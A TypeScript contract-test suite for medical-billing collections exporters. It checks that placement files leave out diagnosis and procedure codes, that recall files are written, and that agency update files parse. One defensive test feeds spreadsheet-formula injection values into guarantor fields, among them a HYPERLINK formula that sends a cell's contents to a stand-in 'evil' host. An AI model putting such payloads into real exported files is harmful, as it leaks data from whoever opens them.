import type { CollectionsExporter, PlacementRecord } from '@revcycle/core';
import { describe, expect, it } from 'vitest';

/** Clinical codes a careless exporter could leak by dumping whole objects: none may ever appear in its files. */
export const CLINICAL_CODES = ['99214', '36415', 'E11.9', 'I10', 'Z00.00'];

/** Two placements with every field an exporter is given — and, smuggled in, clinical data it must not write. */
export function samplePlacements(): PlacementRecord[] {
  const base: PlacementRecord = {
    placementId: 'plc_contract_1',
    accountNumber: 'A0001234',
    practice: {
      name: 'Riverbend Family Medicine',
      taxId: '741234567',
      phone: '512-555-0100',
      addressLines: ['1200 Barton Springs Rd', 'Austin, TX 78704'],
    },
    guarantor: {
      firstName: 'Tran',
      lastName: 'Nguyen',
      dateOfBirth: '1980-04-02',
      addressLine1: '2301 S Lamar Blvd',
      city: 'Austin',
      state: 'TX',
      postalCode: '78704',
      phone: '5125550101',
      email: 'tran@example.com',
    },
    balanceCents: 123_456,
    itemization: {
      itemizationDate: '2026-08-01',
      itemizationBalanceCents: 133_456,
      interestCents: 0,
      feesCents: 0,
      paymentsCents: 10_000,
      creditsCents: 0,
    },
    datesOfService: ['2026-06-01', '2026-06-15'],
    firstStatementDate: '2026-06-20',
    delinquencyDate: '2026-07-20',
    placedOn: '2026-11-27',
    creditReporting: { action: 'DO_NOT_REPORT', reason: 'delinquent 130 days; medical debt is reported after 365' },
  };
  const leaky = {
    ...base,
    placementId: 'plc_contract_2',
    accountNumber: 'A0005678',
    balanceCents: 2_785,
    visits: [{ procedureCode: '99214', diagnosisCodes: ['E11.9', 'I10'] }],
    lines: ['36415', 'Z00.00'],
  };
  return [base, leaky as PlacementRecord];
}

export interface CollectionsExporterHarness {
  /** Reads the exporter's files back as text (CSV, fixed width, …). */
  readText(bytes: Uint8Array): string;
  /** An update file in the exporter's format: for plc_contract_1 a $100.00 payment with $25.00 commission, then a dispute; for plc_contract_2 a return. */
  sampleUpdateFile(): { name: string; content: string };
  /** An update file with one malformed line (line 3). */
  malformedUpdateFile(): { name: string; content: string };
}

/**
 * What every collections exporter must do: write placement files that carry each account, its balance and
 * itemization — and never a diagnosis or procedure code (HIPAA minimum necessary), even when handed objects that
 * hold some; write recall files; read the agency's updates back into payments, commissions, disputes and returns,
 * naming the line of anything malformed.
 */
export function runCollectionsExporterContract(
  name: string,
  exporter: () => CollectionsExporter,
  harness: CollectionsExporterHarness,
): void {
  describe(`collections exporter contract: ${name}`, () => {
    it('has an identity and the three operations', () => {
      const e = exporter();
      expect(e.kind).toBe('collections');
      expect(e.id).toMatch(/^[a-z0-9][a-z0-9-]*$/);
      for (const method of ['exportPlacements', 'exportRecalls', 'parseUpdates'] as const)
        expect(typeof e[method]).toBe('function');
    });

    it('writes every placement with its balance and itemization, and no clinical codes', async () => {
      const files = await exporter().exportPlacements(samplePlacements(), {
        agencyName: 'Acme Recovery',
        batchDate: '2026-11-27',
      });
      expect(files.length).toBeGreaterThan(0);
      const text = files.map((f) => harness.readText(f.bytes)).join('\n');
      for (const p of samplePlacements()) {
        expect(text).toContain(p.placementId);
        expect(text).toContain(p.accountNumber);
        expect(text).toContain(p.guarantor.lastName);
      }
      expect(text).toContain('1234.56');
      expect(text).toContain('2026-08-01');
      for (const code of CLINICAL_CODES) expect(text, `the placement file leaks ${code}`).not.toContain(code);
    });

    it('neutralizes spreadsheet formulas in every cell and writes missing values as empty (OWASP CSV injection)', async () => {
      const [base] = samplePlacements();
      const hostile: PlacementRecord = {
        ...base!,
        placementId: 'plc_contract_3',
        guarantor: {
          ...base!.guarantor,
          lastName: '=HYPERLINK("http://evil/?"&A1,"x")',
          firstName: '+SUM(1,2)',
          addressLine1: '@cmd',
          addressLine2: '-2+3',
          city: '\t=1+1',
          phone: null as unknown as string,
          email: undefined,
        },
      };
      const files = await exporter().exportPlacements([hostile], {
        agencyName: 'Acme Recovery',
        batchDate: '2026-11-27',
      });
      const text = files.map((f) => harness.readText(f.bytes)).join('\n');
      // No cell may begin with a formula trigger: at the start of a line, after a separator, or after a quote.
      for (const probe of ['=HYPE', '+SUM(', '@cmd', '-2+3', '\t=1+1']) {
        const escaped = probe.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');
        expect(text, `a cell begins with ${JSON.stringify(probe)}`).not.toMatch(
          new RegExp(`(^|[,;|\\n])"?${escaped}`, 'm'),
        );
      }
      expect(text).toContain('HYPERLINK');
      expect(text).not.toMatch(/\bnull\b|\bundefined\b/);
    });

    it('writes recalls', async () => {
      const files = await exporter().exportRecalls(
        [
          {
            placementId: 'plc_contract_1',
            accountNumber: 'A0001234',
            reason: 'paid at the practice',
            recalledOn: '2026-12-01',
          },
        ],
        { agencyName: 'Acme Recovery', batchDate: '2026-12-01' },
      );
      const text = files.map((f) => harness.readText(f.bytes)).join('\n');
      expect(text).toContain('plc_contract_1');
      expect(text).toContain('2026-12-01');
    });

    it('reads payments with commission, disputes and returns from an update file', async () => {
      const updates = await exporter().parseUpdates(harness.sampleUpdateFile());
      expect(updates.map((u) => [u.placementId, u.kind, u.amountCents ?? null, u.commissionCents ?? null])).toEqual([
        ['plc_contract_1', 'PAYMENT', 10_000, 2_500],
        ['plc_contract_1', 'DISPUTE', null, null],
        ['plc_contract_2', 'RETURN', null, null],
      ]);
      expect(updates.every((u) => /^\d{4}-\d{2}-\d{2}$/.test(u.date) && u.line > 0)).toBe(true);
    });

    it('names the line of a malformed update', async () => {
      await expect(exporter().parseUpdates(harness.malformedUpdateFile())).rejects.toThrow(/line 3/);
    });
  });
}
